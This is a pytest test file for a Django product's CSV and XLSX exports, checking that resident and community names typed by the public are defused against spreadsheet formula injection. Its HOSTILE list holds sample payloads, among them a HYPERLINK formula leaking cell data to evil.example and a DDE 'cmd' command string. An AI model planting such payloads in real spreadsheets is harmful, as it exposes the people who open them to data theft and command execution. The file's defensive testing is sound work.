"""Exports opened in a spreadsheet program: text typed by the public (a name, which the masked
name starts with) never becomes a formula or a link, in every CSV and XLSX the product writes."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from communities.models import User
from healthkit.spreadsheet import FORMULA_STARTS, csv_writer, text_cell
from tests.factories import CommunityFactory, ResidentFactory, UserFactory
from tests.factories.appeals import AppealFactory
from tests.factories.clearance import ClearanceTaskFactory, WorkerFactory
from tests.factories.venues import VenueFactory, VenueScanFactory, cst

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _assert_defused(cells: list[str], masked: list[str]) -> None:
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for m in masked:
        assert "'" + m in cells


# Full-width signs as a Chinese input method types them, and spaces before a formula.
@pytest.mark.parametrize("text", [*HOSTILE, "\tx", "\r=1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", " =1+1",
                                  "\u3000=HYPERLINK(\"http://evil.example\")"])
def test_text_starting_like_a_formula_is_marked_as_text(text):
    assert text_cell(text) == "'" + text
    line = csv_writer().writerow([text, 5, -5])
    assert next(csv.reader(io.StringIO(line))) == ["'" + text, "5", "-5"]  # numbers stay numbers


@pytest.mark.parametrize("value", ["张*", "138****1234", "2026-11-30 10:00", 7, -7, 1.5, None, ""])
def test_ordinary_cells_are_unchanged(value):
    assert text_cell(value) == value


@pytest.mark.django_db
def test_appeal_export_csv_and_xlsx_defuse_hostile_names(client):
    residents = [ResidentFactory(name=name) for name in HOSTILE]
    for resident in residents:
        AppealFactory(resident=resident)
    client.force_login(UserFactory(role=User.Role.SUPERVISOR))
    masked = [r.masked for r in residents]
    assert all(m.startswith(FORMULA_STARTS) for m in masked)  # the mask keeps the hostile first character

    response = client.post(reverse("oversight:export-appeals"), {"reason": "audit", "format": "csv", "query": ""})
    _assert_defused(_csv_cells(response), masked)

    response = client.post(reverse("oversight:export-appeals"), {"reason": "audit", "format": "xlsx", "query": ""})
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as book:
        sheets = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets  # no formula cell
    assert "<hyperlink" not in sheets  # no link
    for m in masked:
        assert m.replace("&", "&amp;").replace('"', "&quot;") in sheets or m in sheets


@pytest.mark.django_db
def test_worklist_csv_defuses_hostile_names(client):
    community = CommunityFactory()
    worker = WorkerFactory(communities=[community])
    tasks = [ClearanceTaskFactory(resident=ResidentFactory(name=name, community=community)) for name in HOSTILE]
    client.force_login(worker)
    _assert_defused(_csv_cells(client.get(reverse("clearance:worklist-csv"))), [t.resident.masked for t in tasks])


@pytest.mark.django_db
def test_venue_register_csv_defuses_hostile_names(client):
    manager = UserFactory(role="venue_manager")
    venue = VenueFactory(managers=[manager])
    residents = [ResidentFactory(name=name) for name in HOSTILE]
    for hour, resident in enumerate(residents):
        VenueScanFactory(venue=venue, resident=resident, scanned_at=cst(2022, 9, 1, 8 + hour))
    client.force_login(manager)
    response = client.get(f"/console/venues/{venue.pk}/register.csv",
                          {"start": "2022-09-01T00:00", "end": "2022-09-02T00:00"})
    assert response.status_code == 200
    _assert_defused(_csv_cells(response), [r.masked for r in residents])


def _all_exports() -> set[str]:
    """Every URL whose view writes a spreadsheet (a name with "export", or a path ending .csv/.xlsx)."""
    from django.urls import get_resolver

    found: set[str] = set()

    def walk(patterns, namespace=""):
        for p in patterns:
            if hasattr(p, "url_patterns"):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif p.name and ("export" in p.name or str(p.pattern).endswith((".csv", ".xlsx"))):
                found.add(namespace + p.name)

    walk(get_resolver().url_patterns)
    return found


# Each export and the test above or below that feeds it hostile text.
COVERED = {
    "oversight:export-appeals": test_appeal_export_csv_and_xlsx_defuse_hostile_names,
    "clearance:worklist-csv": test_worklist_csv_defuses_hostile_names,
    "venues:venue-register-export": test_venue_register_csv_defuses_hostile_names,
}


def test_every_export_has_a_hostile_text_test():
    # a new export must be added to COVERED with a test that feeds it hostile text
    assert _all_exports() == set(COVERED) | {"oversight:export-tasks", "oversight:export-popups", "oversight:export-summary"}


def _xlsx_text(response) -> str:
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as book:
        return "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/"))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_task_and_popup_exports_defuse_hostile_names_and_community_names(client, fmt):
    from tests.factories import PopupCaseFactory

    community = CommunityFactory(name=HOSTILE[0])
    residents = [ResidentFactory(name=name, community=community) for name in HOSTILE]
    for resident in residents:
        ClearanceTaskFactory(resident=resident, community=community, popup=PopupCaseFactory(resident=resident))
    client.force_login(UserFactory(role=User.Role.SUPERVISOR))
    masked = [r.masked for r in residents]
    for url in (reverse("oversight:export-tasks"), reverse("oversight:export-popups")):
        response = client.post(url, {"reason": "audit", "format": fmt, "query": ""})
        assert response.status_code == 200, url
        if fmt == "csv":
            cells = _csv_cells(response)
            _assert_defused(cells, masked)
            assert "'" + HOSTILE[0] in cells  # the community's name too
        else:
            sheets = _xlsx_text(response)
            assert "<f>" not in sheets and "<f " not in sheets and "<hyperlink" not in sheets


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_dashboard_figures_export_defuses_hostile_place_names(client, fmt):
    CommunityFactory(name=HOSTILE[0])
    client.force_login(UserFactory(role=User.Role.SUPERVISOR))
    response = client.get(reverse("oversight:export-summary"), {"format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        assert not [c for c in _csv_cells(response) if c.startswith(FORMULA_STARTS)]
    else:
        sheets = _xlsx_text(response)
        assert "<f>" not in sheets and "<f " not in sheets and "<hyperlink" not in sheets
